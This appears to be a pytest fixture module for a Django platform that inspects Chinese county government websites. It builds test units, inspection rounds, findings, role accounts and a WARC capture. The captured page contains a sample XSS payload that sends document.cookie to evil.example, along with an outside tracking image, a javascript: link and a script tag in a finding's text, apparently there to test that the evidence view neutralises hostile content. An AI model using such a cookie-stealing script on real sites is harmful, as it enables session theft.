"""A small inspected county for the web platform's tests, built in the database directly (no crawl), with a real WARC
file for the evidence view and one account per role.

    def test_x(platform, client):          # platform: a Platform (below); needs the db
        client.force_login(platform.users["unit_a"])

Units: 县政府 (区县, top) ─┬─ 卫健局 (部门, unit A) ─ 卫健局下属中心 (部门, child of A)
                          ├─ 教育局 (部门, unit B)
                          └─ 城关镇 (乡镇, supervisor S's subtree: 城关镇 and its 社区中心; 教育局 names 城关镇 as 主管单位? no)
Two rounds: `previous` (done) and `current` (done, recheck baseline = previous). Findings of the current round:
unit A has 3 (one hidden personal-data finding with a WARC capture whose page carries a <script>, an <img> to an outside
host and a hit; one still present from the previous round by fingerprint; one new), unit B has 2, the town 1, the
child centre 1. Accounts (username → role): office, readonly, unit_a, unit_b, supervisor (城关镇), all with password
PASSWORD and must_change_password False.
"""

from __future__ import annotations

import datetime as dt
import io
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from captures import write_warc as _warc

PASSWORD = "Test-Passw0rd-42"

CAPTURED_PAGE = (
    "<!doctype html><html><head><meta charset='utf-8'><title>关于公布2026年低保名单的公示</title>"
    "<script>document.title='PWNED';fetch('http://evil.example/steal?c='+document.cookie)</script>"
    "</head><body><h1>关于公布2026年低保名单的公示</h1>"
    "<p>张三，身份证号 110101199003074518，住址城关镇。</p>"
    "<img src='http://evil.example/pixel.gif'><a href='javascript:alert(1)'>链接</a>"
    "</body></html>"
).encode("utf-8")


@dataclass
class Platform:
    units: dict = field(default_factory=dict)      # key -> Unit: top, a, a_child, b, town, town_child
    sites: dict = field(default_factory=dict)      # key -> Website: portal (top), a, b, town
    accounts: dict = field(default_factory=dict)   # key -> registry Account: a, b
    rounds: dict = field(default_factory=dict)     # "previous", "current"
    findings: dict = field(default_factory=dict)   # key -> rounds.Finding of the current round
    users: dict = field(default_factory=dict)      # username -> User
    warc_key: str = ""




def build_platform() -> Platform:
    from django.contrib.auth.models import User

    from govinspect.engine.finding import Evidence, Finding as EF, Location, Subject
    from govinspect.registry.models import Account, Column, Unit, Website
    from govinspect.rounds.models import Finding, Round, RoundAccount, RoundJob, RoundSite
    from govinspect.web.models import Profile

    p = Platform()
    U = p.units
    U["top"] = Unit.objects.create(name="测试县人民政府", kind="区县")
    U["a"] = Unit.objects.create(name="测试县卫生健康局", short_name="卫健局", kind="部门", parent=U["top"],
                                 contact_name="王一", contact_email="a@example.gov.cn")
    U["a_child"] = Unit.objects.create(name="测试县疾病预防控制中心", kind="部门", parent=U["a"])
    U["b"] = Unit.objects.create(name="测试县教育局", short_name="教育局", kind="部门", parent=U["top"],
                                 contact_name="李二")
    U["town"] = Unit.objects.create(name="测试县城关镇人民政府", kind="乡镇", parent=U["top"])
    U["town_child"] = Unit.objects.create(name="城关镇社区服务中心", kind="部门", parent=U["town"])
    S = p.sites
    S["portal"] = Website.objects.create(name="测试县人民政府网", home_url="http://127.0.0.1:9/portal/", owner=U["top"],
                                         is_portal=True)
    S["a"] = Website.objects.create(name="测试县卫生健康局网站", home_url="http://127.0.0.1:9/a/", owner=U["a"])
    S["b"] = Website.objects.create(name="测试县教育局网站", home_url="http://127.0.0.1:9/b/", owner=U["b"])
    S["town"] = Website.objects.create(name="城关镇人民政府网", home_url="http://127.0.0.1:9/town/", owner=U["town"])
    Column.objects.create(site=S["a"], name="通知公告", url="http://127.0.0.1:9/a/tzgg/", category="notice")
    Column.objects.create(site=S["portal"], name="卫生健康", url="http://127.0.0.1:9/portal/wsjk/",
                          responsible_unit=U["a"])
    p.accounts["a"] = Account.objects.create(platform="微信公众号", name="健康测试县", owner=U["a"], filed=True)
    p.accounts["b"] = Account.objects.create(platform="微博", name="测试县教育", owner=U["b"], filed=True)

    as_of = dt.date(2026, 9, 30)
    page_url = "http://127.0.0.1:9/a/tzgg/2026/0901.html"
    p.warc_key = "rounds/test/site-a/crawl.warc.gz"
    offset = _warc(p.warc_key, page_url, CAPTURED_PAGE)

    def make_round(name, when, status="done", recheck_of=None):
        return Round.objects.create(name=name, as_of=when, status=status, region="测试县", office="测试县人民政府办公室",
                                    recheck_of=recheck_of)

    prev = p.rounds["previous"] = make_round("2026年第二季度检查", dt.date(2026, 6, 30))
    cur = p.rounds["current"] = make_round("2026年第三季度检查", as_of)

    def site_rows(rnd):
        out = {}
        for k, site in S.items():
            job = RoundJob.objects.create(round=rnd, kind="site", target=site.pk, label=site.name, state="done",
                                          progress={"pages": 120})
            verdict = {"a": "fail", "town": "unknown"}.get(k, "pass")
            out[k] = RoundSite.objects.create(round=rnd, job=job, website=site, status="could_not_check" if verdict == "unknown"
                                              else "checked", verdict=verdict, score=None if verdict == "unknown" else 80,
                                              pages_fetched=120, reason="首页无法访问（连接超时）" if verdict == "unknown" else "")
        acc_job = RoundJob.objects.create(round=rnd, kind="accounts", label="新媒体账号", state="done")
        for k, acc in p.accounts.items():
            RoundAccount.objects.create(round=rnd, account=acc, status="checked", verdict="fail" if k == "b" else "pass")
        return out, acc_job

    def add(rnd, rs, key, rule, unit, url, detail, match="", evidence=None, kind="page", severity="high", veto=False):
        site = rs[key]
        ef = EF(rule=rule, detail=detail, subject=Subject(kind=kind, site=site.website.name, unit=unit.name),
                location=Location(url=url), evidence=Evidence(**(evidence or {})), match=match)
        row = Finding.from_engine(ef, None, round=rnd, job=site.job, round_site=site, responsible_unit=unit)
        row.severity, row.veto = severity, veto
        row.save()
        return row

    prev_rs, _ = site_rows(prev)
    add(prev, prev_rs, "a", "link.dead", U["a"], "http://127.0.0.1:9/a/old.html", "链接无法访问：http://127.0.0.1:9/a/x.html",
        severity="medium")
    add(prev, prev_rs, "a", "column.stale", U["a"], "http://127.0.0.1:9/a/tzgg/", "栏目“通知公告”超过2周未更新",
        kind="column", severity="medium")  # fixed by the current round
    add(prev, prev_rs, "b", "content.expression", U["b"], "http://127.0.0.1:9/b/1.html", "表述不规范：“中华人民共和国国务院”",
        severity="medium")

    cur_rs, _ = site_rows(cur)
    F = p.findings
    excerpt = "张三，身份证号 110101********4518，住址城关镇。"
    start = excerpt.index("1101")
    F["privacy"] = add(cur, cur_rs, "a", "privacy.id_number", U["a"], page_url, "公开了身份证号码",
                       match="110101********4518", veto=True,
                       evidence={"captured_at": "2026-09-29T10:00:00+08:00", "http_status": 200, "warc_file": p.warc_key,
                                 "warc_offset": offset, "excerpt": excerpt, "hit": (start, start + 18)})
    F["still"] = add(cur, cur_rs, "a", "link.dead", U["a"], "http://127.0.0.1:9/a/old.html",
                     "链接无法访问：http://127.0.0.1:9/a/x.html", severity="medium")
    F["new_a"] = add(cur, cur_rs, "portal", "content.typo", U["a"], "http://127.0.0.1:9/portal/wsjk/1.html",
                     "疑似错别字：“洽谈”误为“恰谈”<script>alert('x')</script>", match="恰谈", severity="low")
    F["b1"] = add(cur, cur_rs, "b", "content.expression", U["b"], "http://127.0.0.1:9/b/1.html",
                  "表述不规范：“中华人民共和国国务院”", severity="medium")
    F["b2"] = add(cur, cur_rs, "b", "link.illegal", U["b"], "http://127.0.0.1:9/b/2.html", "链接到非法网站 www.bad.top",
                  veto=True)
    F["town"] = add(cur, cur_rs, "town", "column.empty", U["town"], "http://127.0.0.1:9/town/zwgk/", "栏目“政务公开”为空",
                    kind="column", severity="medium")
    F["a_child"] = add(cur, cur_rs, "a", "content.sensitive", U["a_child"], "http://127.0.0.1:9/a/cdc/1.html",
                       "含有严重错误表述", match="某敏感词", severity="high")

    for username, role, unit in (("office", "office", None), ("readonly", "readonly", None), ("unit_a", "unit", U["a"]),
                                 ("unit_b", "unit", U["b"]), ("supervisor", "supervisor", U["town"])):
        u = User.objects.create_user(username, password=PASSWORD)
        Profile.objects.create(user=u, role=role, unit=unit, must_change_password=False)
        p.users[username] = u
    # the current round is issued (issue 18): one rectification item per finding, p.items by the same keys as F
    from govinspect.rectify.models import Item
    from govinspect.rectify.services import issue_round

    issue_round(cur, "office", issued_on=cur.as_of)
    p.items = {k: Item.objects.get(finding=f) for k, f in F.items() if f.round_id == cur.pk and Item.objects.filter(finding=f).exists()}
    return p


@pytest.fixture
def platform(db):
    return build_platform()


@pytest.fixture
def client_for(client):
    """client_for("unit_a") -> the test client signed in as that platform user (force_login: no throttle)."""
    from django.contrib.auth.models import User

    def sign_in(username):
        client.force_login(User.objects.get(username=username))
        return client

    return sign_in


@pytest.fixture(scope="module")
def chromium():
    """Debian's chromium launched by Playwright (tests/web/browser_util.py has the helpers to drive it); fails, never
    skips, where it is missing."""
    from browser_util import CHROMIUM, CHROMIUM_ARGS

    if not Path(CHROMIUM).exists():
        pytest.fail(f"{CHROMIUM} is missing: install Debian's chromium (make installs it); browser tests never skip")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        b = pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            yield b
        finally:
            b.close()


@pytest.fixture
def fresh_throttles():
    """DRF throttles count in the cache, which outlives a test: cleared before and after (API test modules use it with
    `pytestmark = pytest.mark.usefixtures("fresh_throttles")`)."""
    from django.core.cache import cache

    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def api(platform):
    """api("unit_a") -> an APIClient sending that account's real token (POST /api/v1/auth/token/)."""
    from api_util import token_client, token_for

    return lambda username: token_client(token_for(username, PASSWORD))
